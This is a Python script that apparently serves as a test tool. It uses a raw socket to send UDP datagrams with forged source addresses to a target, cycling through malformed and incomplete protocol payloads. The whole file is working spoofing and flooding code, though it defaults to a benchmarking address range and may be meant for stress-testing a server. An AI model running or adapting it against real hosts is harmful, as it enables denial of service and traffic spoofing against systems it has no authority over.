#!/usr/bin/python3
"""Sends UDP datagrams with forged source addresses, written with a raw socket, to one target.

    spoof_flood.py TARGET --count N [--port 9090] [--sources 198.18.0.100-198.18.0.250]

Each datagram comes from another source address and port of the range and carries, in turn,
a join announcement, the start of a packet that never completes, a header that can never be a
packet, and a list request. Prints {"sent": N} when done.
"""
import argparse
import ipaddress
import json
import socket
import struct

PAYLOADS = [
    struct.pack(">ii", 8, -101),
    struct.pack(">ii", 4000, 7) + b"never completed",
    struct.pack(">ii", 0, 0),
    struct.pack(">ii", 8, -100),
]


def udp_ip_packet(source, source_port, target, port, payload):
    udp = struct.pack(">HHHH", source_port, port, 8 + len(payload), 0) + payload  # checksum 0: none
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(source), socket.inet_aton(target))
    return header + udp  # the kernel fills in the header checksum


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("target")
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--port", type=int, default=9090)
    parser.add_argument("--sources", default="198.18.0.100-198.18.0.250")
    args = parser.parse_args()
    first, last = (int(ipaddress.IPv4Address(a)) for a in args.sources.split("-"))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    for i in range(args.count):
        source = str(ipaddress.IPv4Address(first + i % (last - first + 1)))
        packet = udp_ip_packet(source, 1024 + i % 60000, args.target, args.port, PAYLOADS[i % len(PAYLOADS)])
        raw.sendto(packet, (args.target, 0))
    print(json.dumps({"sent": args.count}), flush=True)


if __name__ == "__main__":
    main()
